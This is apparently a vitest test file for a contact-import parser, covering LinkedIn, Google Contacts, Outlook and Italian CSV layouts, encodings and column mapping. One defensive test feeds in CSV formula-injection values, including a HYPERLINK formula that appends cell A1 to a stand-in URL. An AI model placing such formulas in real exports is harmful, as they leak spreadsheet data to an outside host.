/**
 * CSV imports built in the test for what no public sample shows: LinkedIn exports with 0, 2 and
 * 3 preamble lines, Google Contacts in both layouts, Italian and Outlook headers, odd dialects.
 */
import { describe, expect, it } from 'vitest';
import iconv from 'iconv-lite';
import { expectWellFormed } from './fixtures.ts';
import { parseContacts, previewCsv, suggestMapping } from './index.ts';

const LINKEDIN_HEADER = 'First Name,Last Name,URL,Email Address,Company,Position,Connected On';
const LINKEDIN_ROWS = [
  'Giulia,Rossi,https://www.linkedin.com/in/giulia-rossi-123,,"Acme, S.p.A.","Head of Sales, EMEA",12 Mar 2024',
  'Lisânias,Pereira,https://www.linkedin.com/in/lisanias,lisanias@example.com,"Studio ""Tre"" Srl",CTO,01 Jan 2024',
  '',
  'Marco,Bianchi,https://www.linkedin.com/in/marco-bianchi/,,Bianchi & Figli,Founder,6-Feb-26',
  ',,,,,,15 Apr 2023',
];
const PREAMBLE = [
  'Notes:',
  '"When exporting your connection data, you may notice that some of the email addresses are missing. You will only see email addresses for connections who have allowed their connections to see or download their email address using this setting https://www.linkedin.com/psettings/privacy/email. You can learn more here https://www.linkedin.com/help/linkedin/answer/261"',
  '',
];

function linkedIn(preamble: string[], eol = '\n', bom = false): Buffer {
  const text = [...preamble, LINKEDIN_HEADER, ...LINKEDIN_ROWS].join(eol) + eol;
  return Buffer.from((bom ? '\uFEFF' : '') + text, 'utf8');
}

describe('LinkedIn Connections.csv', () => {
  for (const preamble of [[], PREAMBLE.slice(0, 2), PREAMBLE]) {
    it(`finds the header after ${preamble.length} preamble lines`, () => {
      const r = parseContacts(linkedIn(preamble, '\r\n', preamble.length === 3));
      expectWellFormed(r);
      expect(r.format).toBe('linkedin');
      expect(r.contacts.map((c) => c.name)).toEqual(['Giulia Rossi', 'Lisânias Pereira', 'Marco Bianchi']);
      const [giulia, lis, marco] = r.contacts;
      const h = preamble.length; // lines before the header
      expect(giulia).toMatchObject({
        line: h + 2,
        givenName: 'Giulia',
        familyName: 'Rossi',
        company: 'Acme, S.p.A.',
        role: 'Head of Sales, EMEA',
        emails: [],
        links: [{ value: 'https://www.linkedin.com/in/giulia-rossi-123', label: 'linkedin' }],
        externalId: 'https://www.linkedin.com/in/giulia-rossi-123',
        connectedOn: '2024-03-12',
        linkedin: true,
      });
      // "How we met" is the import's to write, in the account's language.
      expect(giulia?.howMet).toBeUndefined();
      expect(lis).toMatchObject({
        company: 'Studio "Tre" Srl',
        emails: [{ value: 'lisanias@example.com', label: null }],
        connectedOn: '2024-01-01',
      });
      // An empty line before Marco: his line number still counts it.
      expect(marco).toMatchObject({
        line: h + 5,
        connectedOn: '2026-02-06',
        externalId: 'https://www.linkedin.com/in/marco-bianchi',
      });
      // The member without name or email (LinkedIn hides them) is reported with its line.
      expect(r.problems).toContainEqual({
        line: h + 6,
        code: 'no_name_no_email',
        params: { unit: 'row' },
        reason: 'row skipped: no name and no email',
        severity: 'skipped',
      });
    });
  }

  it('reads older exports without URL and Email Address', () => {
    const text = 'First Name,Last Name,Company,Position,Connected On\nAnna,Verdi,Beta,CEO,03 Feb 2019\n';
    const r = parseContacts(Buffer.from(text));
    expect(r.format).toBe('linkedin');
    expect(r.contacts[0]).toMatchObject({
      name: 'Anna Verdi',
      company: 'Beta',
      role: 'CEO',
      connectedOn: '2019-02-03',
      links: [],
    });
  });

  it('keeps formula-looking cells verbatim (neutralised only at export)', () => {
    const text = `${LINKEDIN_HEADER}\n"=HYPERLINK(""http://x/?""&A1,""x"")",+1+1,,,-2+3,@SUM(A1),01 Jan 2024\n`;
    const r = parseContacts(Buffer.from(text));
    expect(r.contacts[0]).toMatchObject({
      givenName: '=HYPERLINK("http://x/?"&A1,"x")',
      familyName: '+1+1',
      company: '-2+3',
      role: '@SUM(A1)',
    });
  });

  it('reports a quote that is never closed, keeping the rows before it', () => {
    const text = `${LINKEDIN_HEADER}\nAnna,Verdi,,,Beta,CEO,03 Feb 2019\nBruno,"Neri,,,,,\nCarla,Blu,,,,,\n`;
    const r = parseContacts(Buffer.from(text));
    expect(r.contacts.map((c) => c.name)).toEqual(['Anna Verdi']);
    expect(r.problems).toContainEqual({
      line: 3,
      code: 'csv_unclosed_quote',
      params: {},
      reason: 'a quoted field is never closed: the file was not read from this line on',
      severity: 'skipped',
    });
  });
});

const GOOGLE_HEADER =
  'First Name,Middle Name,Last Name,Phonetic First Name,Phonetic Middle Name,Phonetic Last Name,Name Prefix,Name Suffix,Nickname,File As,Organization Name,Organization Title,Organization Department,Birthday,Notes,Photo,Labels,E-mail 1 - Label,E-mail 1 - Value,E-mail 2 - Label,E-mail 2 - Value,Phone 1 - Label,Phone 1 - Value,Phone 2 - Label,Phone 2 - Value,Address 1 - Label,Address 1 - Formatted,Address 1 - Street,Address 1 - City,Address 1 - PO Box,Address 1 - Region,Address 1 - Postal Code,Address 1 - Country,Address 1 - Extended Address,Website 1 - Label,Website 1 - Value';

function googleRow(cells: Record<string, string>): string {
  return GOOGLE_HEADER.split(',')
    .map((h) => {
      const v = cells[h] ?? '';
      return /[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
    })
    .join(',');
}

describe('Google Contacts CSV', () => {
  it('reads the current labelled layout (with a UTF-8 BOM)', () => {
    const rows = [
      googleRow({
        'First Name': 'Paola',
        'Last Name': 'Neri',
        'Organization Name': 'Gamma Srl',
        'Organization Title': 'Avvocato',
        Birthday: '1985-07-14',
        Notes: 'Conosciuta al convegno,\nsecondo giorno',
        Photo: 'https://lh3.googleusercontent.com/contacts/photo',
        Labels: '* myContacts ::: * starred ::: Clienti',
        'E-mail 1 - Label': '* Work',
        'E-mail 1 - Value': 'paola@gamma.it ::: p.neri@gamma.it',
        'E-mail 2 - Label': 'Home',
        'E-mail 2 - Value': 'paola.neri@example.com',
        'Phone 1 - Label': 'Mobile',
        'Phone 1 - Value': '+39 333 123 4567',
        'Address 1 - City': 'Milano',
        'Address 1 - Country': 'Italia',
        'Website 1 - Label': 'Profile',
        'Website 1 - Value': 'https://gamma.it/paola',
      }),
      googleRow({ 'Organization Name': 'Solo Azienda SpA', 'Phone 1 - Value': '02 1234567' }),
      googleRow({ Notes: 'nobody' }),
    ];
    const r = parseContacts(Buffer.from(`\uFEFF${GOOGLE_HEADER}\n${rows.join('\n')}\n`));
    expectWellFormed(r);
    expect(r.format).toBe('google');
    expect(r.csvLayout).toBe('google');
    expect(r.contacts[0]).toMatchObject({
      line: 2,
      name: 'Paola Neri',
      company: 'Gamma Srl',
      role: 'Avvocato',
      birthday: '1985-07-14',
      notes: 'Conosciuta al convegno,\nsecondo giorno',
      tags: ['clienti'],
      emails: [
        { value: 'paola@gamma.it', label: 'work' },
        { value: 'p.neri@gamma.it', label: 'work' },
        { value: 'paola.neri@example.com', label: 'home' },
      ],
      phones: [{ value: '+39 333 123 4567', label: 'mobile' }],
      links: [{ value: 'https://gamma.it/paola', label: 'Profile' }],
      city: 'Milano',
      country: 'Italia',
    });
    expect(r.contacts[0]?.photo).toBeUndefined(); // the Photo URL is never fetched
    expect(r.contacts[1]).toMatchObject({ name: 'Solo Azienda SpA', phones: [{ value: '02 1234567', label: null }] });
    expect(r.problems).toContainEqual({
      line: 5,
      code: 'no_name',
      params: { unit: 'row' },
      reason: 'row skipped: no name, company or email',
      severity: 'skipped',
    });
  });

  it('reads the legacy layout (Given Name, Group Membership, E-mail 1 - Type)', () => {
    const header =
      'Name,Given Name,Additional Name,Family Name,Yomi Name,Given Name Yomi,Additional Name Yomi,Family Name Yomi,Name Prefix,Name Suffix,Initials,Nickname,Short Name,Maiden Name,Birthday,Gender,Location,Billing Information,Directory Server,Mileage,Occupation,Hobby,Sensitivity,Priority,Subject,Notes,Group Membership,E-mail 1 - Type,E-mail 1 - Value,Phone 1 - Type,Phone 1 - Value,Phone 2 - Type,Phone 2 - Value,Address 1 - Type,Address 1 - Formatted,Address 1 - Street,Address 1 - City,Address 1 - PO Box,Address 1 - Region,Address 1 - Postal Code,Address 1 - Country,Address 1 - Extended Address,Organization 1 - Type,Organization 1 - Name,Organization 1 - Yomi Name,Organization 1 - Title,Organization 1 - Department,Organization 1 - Symbol,Organization 1 - Location,Organization 1 - Job Description,Website 1 - Type,Website 1 - Value';
    const cols = header.split(',');
    const row = (v: Record<string, string>): string => cols.map((h) => v[h] ?? '').join(',');
    const text = [
      header,
      row({
        Name: 'Luca Ferri',
        'Given Name': 'Luca',
        'Family Name': 'Ferri',
        'Group Membership': '* myContacts ::: * Friends ::: Calcetto',
        'E-mail 1 - Type': '* Other',
        'E-mail 1 - Value': 'luca@example.org',
        'Phone 1 - Type': 'Mobile',
        'Phone 1 - Value': '333 000 1111 ::: 333 000 2222',
        'Address 1 - City': 'Torino',
        'Organization 1 - Name': 'Delta',
        'Organization 1 - Title': 'Ingegnere',
        'Website 1 - Type': 'Home Page',
        'Website 1 - Value': 'www.lucaferri.it',
      }),
    ].join('\r\n');
    const r = parseContacts(Buffer.from(text));
    expectWellFormed(r);
    expect(r.format).toBe('google');
    expect(r.csvLayout).toBe('google-legacy');
    expect(r.contacts[0]).toMatchObject({
      name: 'Luca Ferri',
      givenName: 'Luca',
      familyName: 'Ferri',
      company: 'Delta',
      role: 'Ingegnere',
      city: 'Torino',
      tags: ['friends', 'calcetto'],
      emails: [{ value: 'luca@example.org', label: 'other' }],
      phones: [
        { value: '333 000 1111', label: 'mobile' },
        { value: '333 000 2222', label: 'mobile' },
      ],
      links: [{ value: 'https://www.lucaferri.it', label: 'Home Page' }],
    });
  });
});

describe('generic CSV with a column mapping', () => {
  const italian =
    'Nome;Cognome;Azienda;Ruolo;Email;Telefono;Cellulare;Città;Note\nMario;Rossi;Rossi Srl;Titolare;mario@rossi.it;02 111222;333 4445566;Roma;Ex collega\n;;;;;;;;\nAnna;;;;;;;;\n;;;;;;;;nota sola\n';

  it('suggests a mapping from Italian headers and applies it', () => {
    const r = parseContacts(Buffer.from(italian));
    expectWellFormed(r);
    expect(r.format).toBe('csv');
    expect(r.suggestedMapping).toEqual({
      Nome: 'givenName',
      Cognome: 'familyName',
      Azienda: 'company',
      Ruolo: 'role',
      Email: 'email',
      Telefono: 'phone',
      Cellulare: 'phone',
      Città: 'city',
      Note: 'notes',
    });
    expect(r.contacts[0]).toMatchObject({
      line: 2,
      name: 'Mario Rossi',
      company: 'Rossi Srl',
      role: 'Titolare',
      emails: [{ value: 'mario@rossi.it', label: null }],
      phones: [
        { value: '02 111222', label: null },
        { value: '333 4445566', label: 'mobile' },
      ],
      city: 'Roma',
      notes: 'Ex collega',
    });
    expect(r.contacts.map((c) => c.name)).toEqual(['Mario Rossi', 'Anna']);
    // The all-empty row is silent; the row with only a note is reported.
    expect(r.problems).toEqual([
      expect.objectContaining({ line: 5, reason: 'row skipped: no name, company or email', severity: 'skipped' }),
    ]);
  });

  it('applies the mapping chosen in the UI', () => {
    const text = 'Chi,Dove,Contatto,Extra\nDott. Bruno Gialli,Napoli,bruno@example.it,x\n';
    const r = parseContacts(Buffer.from(text), { mapping: { Chi: 'name', Dove: 'city', Contatto: 'email', Nope: 'name' } });
    expect(r.mappingUsed).toEqual({ Chi: 'name', Dove: 'city', Contatto: 'email' });
    expect(r.contacts[0]).toMatchObject({
      name: 'Dott. Bruno Gialli',
      city: 'Napoli',
      emails: [{ value: 'bruno@example.it', label: null }],
    });
    expect(r.problems.some((p) => p.severity === 'file' && /Nope/.test(p.reason))).toBe(true);
  });

  it('maps an Outlook export (Title is the honorific when Job Title exists)', () => {
    const headers = [
      'Title',
      'First Name',
      'Middle Name',
      'Last Name',
      'Suffix',
      'Company',
      'Department',
      'Job Title',
      'Business City',
      'Business Country/Region',
      'Business Phone',
      'Business Fax',
      'Mobile Phone',
      'E-mail Address',
      'E-mail Type',
      'E-mail Display Name',
      'Web Page',
      'Notes',
      'Categories',
    ];
    expect(suggestMapping(headers)).toEqual({
      Title: 'ignore',
      'First Name': 'givenName',
      'Middle Name': 'ignore',
      'Last Name': 'familyName',
      Suffix: 'ignore',
      Company: 'company',
      Department: 'ignore',
      'Job Title': 'role',
      'Business City': 'city',
      'Business Country/Region': 'country',
      'Business Phone': 'phone',
      'Business Fax': 'phone',
      'Mobile Phone': 'phone',
      'E-mail Address': 'email',
      'E-mail Type': 'ignore',
      'E-mail Display Name': 'ignore',
      'Web Page': 'link',
      Notes: 'notes',
      Categories: 'tags',
    });
    const text = `${headers.join(',')}\nDott.,Elena,,Galli,,Omega,IT,CIO,Bologna,Italia,051 123456,051 654321,,elena@omega.it,SMTP,Elena Galli (elena@omega.it),omega.it,,Clienti;Fornitori\n`;
    const r = parseContacts(Buffer.from(text));
    expect(r.contacts[0]).toMatchObject({
      name: 'Elena Galli',
      role: 'CIO',
      phones: [
        { value: '051 123456', label: 'work' },
        { value: '051 654321', label: 'work fax' },
      ],
      links: [{ value: 'https://omega.it', label: null }],
      tags: ['clienti', 'fornitori'],
    });
  });

  it('reads Windows-1252 (Excel "CSV" in Italy) and tab-separated files', () => {
    const cp1252 = iconv.encode('Nome\tCognome\tNote\nNiccolò\tFortè\tcosì è, 10 €\n', 'windows-1252');
    const r = parseContacts(cp1252);
    expect(r.encoding).toBe('windows-1252');
    expect(r.contacts[0]).toMatchObject({ name: 'Niccolò Fortè', notes: 'così è, 10 €' });
  });

  it('gives headers, first rows and a suggestion for the mapping screen', () => {
    const p = previewCsv('Full Name,E-mail\r\n"Rossi, Mario",mario@example.com\r\nx,y\r\n', 1);
    expect(p).toMatchObject({
      layout: 'generic',
      headers: ['Full Name', 'E-mail'],
      sample: [['Rossi, Mario', 'mario@example.com']],
      delimiter: ',',
      suggestedMapping: { 'Full Name': 'name', 'E-mail': 'email' },
    });
  });

  it('makes duplicate headers distinct and warns about extra fields', () => {
    const r = parseContacts(Buffer.from('Email,Email,Name\na@example.com,b@example.com,Ada,extra\n'));
    expect(r.csvHeaders).toEqual(['Email', 'Email (2)', 'Name']);
    expect(r.contacts[0]?.emails.map((e) => e.value)).toEqual(['a@example.com', 'b@example.com']);
    expect(r.problems.some((p) => p.severity === 'warning' && /extra/.test(p.reason))).toBe(true);
  });
});
